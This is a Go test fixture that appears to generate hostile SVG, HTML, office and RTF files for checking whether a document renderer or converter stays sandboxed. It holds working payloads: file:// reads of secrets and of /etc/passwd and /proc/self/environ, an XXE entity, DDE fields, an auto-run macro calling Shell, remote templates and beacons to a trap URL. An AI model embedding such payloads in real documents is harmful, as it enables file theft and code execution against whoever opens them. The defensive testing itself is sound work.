package hostile

import "strings"

// svgBody is a drawing that reaches out in the ways that SVG has.
func svgBody(more string, t Trap) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="300" onload="fetch('` + t.URL + `/svg-onload')">` +
		`<style>@import url("` + t.URL + `/svg.css");</style><script href="` + t.URL + `/svg.js">fetch('` + t.URL + `/svg-script')</script>` +
		`<image href="` + t.URL + `/svg.png" width="9" height="9"/><image xlink:href="file://` + t.Secret + `" width="9" height="9"/><use href="` + t.URL + `/svg.svg#a"/>` +
		`<foreignObject width="200" height="200"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://` + t.Secret + `"/></foreignObject><text y="20">` + Marker + `</text>` + more + `</svg>`
}

// webPage tries what a page can do without being asked.
func webPage(t Trap) string {
	u, s := t.URL, t.Secret
	return `<!DOCTYPE html><html manifest="` + u + `/manifest"><head><base href="` + u + `/base/"><title>x</title>` +
		`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data: file:; script-src * 'unsafe-inline'">` +
		`<link rel="stylesheet" href="` + u + `/a.css"><link rel="dns-prefetch" href="//bestand-prefetch.invalid"><link rel="preconnect" href="` + u + `"><link rel="prefetch" href="` + u + `/prefetch">` +
		`<link rel="preload" as="image" href="` + u + `/preload"><link rel="icon" href="` + u + `/favicon.ico"><link rel="prerender" href="` + u + `/prerender"><link rel="manifest" href="` + u + `/app">` +
		`<style>@import url("` + u + `/import.css"); @font-face{font-family:x;src:url("` + u + `/font.woff")} body{background:url("` + u + `/bg.png");font-family:x} p::after{content:url("file://` + s + `")}</style>` +
		`<script src="` + u + `/a.js"></script><script>fetch("` + u + `/fetch"); new WebSocket("ws://` + t.Host + `/ws"); navigator.sendBeacon("` + u + `/beacon"); new Image().src="` + u + `/image"; ` +
		`fetch("file://` + s + `").then(r=>r.text()).then(x=>document.body.append(x)); document.write("SKRIPT LIEF")</script></head>` +
		`<body onload="location='` + u + `/onload'"><p>` + Marker + `</p><img src="` + u + `/img.png"><img srcset="` + u + `/srcset.png 1x"><picture><source srcset="` + u + `/source.png"></picture>` +
		`<img src=x onerror="fetch('` + u + `/onerror')"><iframe src="file://` + s + `"></iframe><iframe src="` + u + `/iframe"></iframe><iframe srcdoc="<script>fetch('` + u + `/srcdoc')</script>"></iframe>` +
		`<iframe src="file:///etc/passwd"></iframe><iframe src="file:///proc/self/environ"></iframe><object data="file://` + s + `"></object><embed src="` + u + `/embed"><video src="` + u + `/video" autoplay poster="` + u + `/poster"></video>` +
		`<audio src="` + u + `/audio" autoplay></audio><form action="` + u + `/form"><input autofocus onfocus="this.form.submit()"></form><a href="` + u + `/a" ping="` + u + `/ping">a</a>` +
		svgBody("", t) + `<script>setTimeout(()=>{location="file://` + s + `"},1)</script></body></html>`
}

func reaching(t Trap) []File {
	u, s := t.URL, t.Secret
	field := func(code string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ` + code + ` </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>alt</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	section := func(href string) string {
		return `<text:section text:name="s` + href + `"><text:section-source xlink:href="` + href + `" xlink:type="simple" xlink:show="embed" text:filter-name="Text"/><text:p>-</text:p></text:section>`
	}
	frame := func(href string) string {
		return `<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="` + href + `" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`
	}
	const ods = "application/vnd.oasis.opendocument.spreadsheet"
	basic := `Sub Main` + "\n" + `Shell("touch ` + s + `.ran") : f = FreeFile : Open "` + s + `" For Input As #f : Line Input #f, x : ThisComponent.Text.String = x` + "\nEnd Sub\n"
	return []File{
		{Name: "links.odt", Shows: true, Content: func() []byte {
			return odt("", paragraph(Marker)+frame(u+"/odt.png")+frame("file://"+s)+section("file://"+s)+section("../../../../../.."+s)+section(u+"/section.txt")+
				`<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="file://`+s+`" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`+
				`<draw:frame svg:width="5cm" svg:height="5cm"><draw:floating-frame xlink:href="`+u+`/frame.html" xlink:type="simple"/></draw:frame></text:p>`)
		}},
		{Name: "dde.odt", Shows: true, Content: func() []byte {
			return odt("", `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="`+s+`" office:dde-item="a" office:automatic-update="true"/></text:dde-connection-decls>`+
				paragraph(Marker+` <text:dde-connection text:connection-name="d">alt</text:dde-connection>`))
		}},
		{Name: "macro.odt", Shows: true, Content: func() []byte {
			return odt(`<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>`+
				`<script:event-listener script:language="ooo:script" script:event-name="office:print" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
				paragraph(Marker),
				part{"Basic/script-lc.xml", []byte(`<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`)},
				part{"Basic/Standard/script-lb.xml", []byte(`<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`)},
				part{"Basic/Standard/Module1.xml", []byte(`<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">` + basic + `</script:module>`)})
		}},
		{Name: "links.ods", Content: func() []byte {
			return pack(odfParts(ods, "", `<office:spreadsheet><table:table table:name="T"><table:table-row><table:table-cell office:value-type="string"><text:p>`+Marker+`</text:p></table:table-cell></table:table-row><table:table-row>`+
				`<table:table-cell table:formula="of:=WEBSERVICE(&quot;`+u+`/ods&quot;)" office:value-type="string"/><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;`+s+`&quot;;&quot;a&quot;)" office:value-type="string"/>`+
				`<table:table-cell table:formula="of:='file://`+s+`'#$Sheet1.A1" office:value-type="string"/></table:table-row></table:table></office:spreadsheet>`)...)
		}, Shows: true},
		{Name: "template.docx", Shows: true, Content: func() []byte {
			return docx(run(Marker), relation("rId9", "settings", "settings.xml", ""),
				part{"word/settings.xml", []byte(`<w:settings ` + wordSpaces + `><w:attachedTemplate r:id="rId1"/><w:linkStyles/></w:settings>`)},
				part{"word/_rels/settings.xml.rels", relations(relation("rId1", "attachedTemplate", u+"/template.dotm", "External"))})
		}},
		{Name: "fields.docx", Shows: true, Content: func() []byte {
			return docx(run(Marker)+field(`INCLUDEPICTURE "`+u+`/docx.png" \d`)+field(`INCLUDETEXT "`+s+`"`)+field(`INCLUDETEXT "file://`+s+`" \c Text`)+
				field(`DDEAUTO "soffice" "`+s+`" a`)+field(`IMPORT "`+u+`/import"`)+field(`LINK Word.Document.8 "`+s+`" a \a`), "")
		}},
		{Name: "links.docx", Shows: true, Content: func() []byte {
			return docx(run(Marker)+`<w:altChunk r:id="rId2"/><w:altChunk r:id="rId3"/><w:altChunk r:id="rId8"/><w:p><w:r><w:pict><v:shape style="width:99pt;height:99pt"><v:imagedata r:id="rId4" r:href="rId5"/></v:shape></w:pict></w:r></w:p>`+
				`<w:p><w:r><w:object><v:shape id="o" style="width:99pt;height:99pt"/><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="o" DrawAspect="Content" r:id="rId6" UpdateMode="Always"/></w:object></w:r></w:p>`+
				`<w:subDoc r:id="rId7"/>`,
				relation("rId2", "aFChunk", u+"/chunk.html", "External")+relation("rId3", "aFChunk", "file://"+s, "External")+relation("rId4", "image", u+"/vml.png", "External")+
					relation("rId5", "image", "file://"+s, "External")+relation("rId6", "oleObject", "file://"+s, "External")+relation("rId7", "subDocument", "file://"+s, "External")+
					relation("rId8", "aFChunk", "chunk.html", ""),
				part{"word/chunk.html", []byte(webPage(t))})
		}},
		{Name: "links.xlsx", Shows: true, Content: func() []byte {
			return xlsx(`<row r="1"><c r="A1" t="inlineStr"><is><t>`+Marker+`</t></is></c></row><row r="2"><c r="B2" t="str"><f>_xlfn.WEBSERVICE("`+u+`/xlsx")</f><v>alt</v></c><c r="C2" t="str"><f>[1]Tabelle!A1</f><v>alt</v></c><c r="D2" t="str"><f>HYPERLINK("`+u+`/link")</f><v>alt</v></c></row>`,
				`<externalReferences><externalReference r:id="rId7"/></externalReferences>`, relation("rId7", "externalLink", "externalLinks/externalLink1.xml", ""),
				part{"xl/externalLinks/externalLink1.xml", []byte(`<externalLink ` + sheetSpace + `><externalBook r:id="rId1"><sheetNames><sheetName val="Tabelle"/></sheetNames></externalBook></externalLink>`)},
				part{"xl/externalLinks/_rels/externalLink1.xml.rels", relations(relation("rId1", "externalLinkPath", "file://"+s, "External"))})
		}},
		{Name: "fields.rtf", Shows: true, Content: text(`{\rtf1\ansi{\*\template ` + u + `/template.dot}` + Marker + `\par{\field{\*\fldinst INCLUDEPICTURE "` + u + `/rtf.png" \\d}{\fldrslt alt}}` +
			`{\field{\*\fldinst INCLUDETEXT "` + s + `"}{\fldrslt alt}}{\field{\*\fldinst DDEAUTO soffice "` + s + `" a}{\fldrslt alt}}` +
			`{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000}{\result alt}}{\*\objhtml ` + u + `}}`)},
		{Name: "page.html", Content: text(webPage(t)), Shows: true},
		{Name: "refresh-http.html", Content: text(`<!DOCTYPE html><meta http-equiv="refresh" content="0;url=` + u + `/refresh"><p>` + Marker), Shows: true},
		{Name: "refresh-file.html", Content: text(`<!DOCTYPE html><meta http-equiv="refresh" content="0;url=file://` + s + `"><p>` + Marker), Shows: true},
		{Name: "refresh-etc.html", Content: text(`<!DOCTYPE html><meta http-equiv="refresh" content="0;url=file:///etc/passwd"><p>` + Marker), Shows: true},
		{Name: "refresh-environ.html", Content: text(`<!DOCTYPE html><meta http-equiv="refresh" content="0;url=file:///proc/self/environ"><p>` + Marker), Shows: true},
		{Name: "script-only.html", Content: text(`<!DOCTYPE html><script>document.write("` + Marker + `")</script>`), Blank: true},
		{Name: "image-only.html", Content: text(`<!DOCTYPE html><img src="` + u + `/only.png">`), Code: "remote-content"},
		{Name: "fragment.html", Content: text(`<!-- <html> --><p>` + Marker + `<meta http-equiv="refresh" content="0;url=` + u + `/fragment">`), Shows: true},
		{Name: "crashing.html", Content: text(`<!DOCTYPE html><style>` + strings.Repeat(":is(", 200_000) + "p" + strings.Repeat(")", 200_000) + `{color:red}</style><p>` + Marker), Code: "browser-crashed"},
		{Name: "hidden.html", Content: text(`<!DOCTYPE html><style>*{display:none!important}</style><p>` + Marker), Blank: true},
		{Name: "covered.html", Content: text(`<!DOCTYPE html><p>` + Marker + `</p><div style="position:fixed;inset:0;background:#fff;z-index:9">&nbsp;</div>`), Blank: true},
		{Name: "endless-script.html", Content: text(`<!DOCTYPE html><p>` + Marker + `<script>for(;;){}</script>`), Shows: true},
		{Name: "page.xhtml", Content: text(`<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file://` + s + `">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>` + Marker + ` &x;</p></body></html>`)},
		{Name: "drawing.svg", Content: text(svgBody("", t))},
	}
}
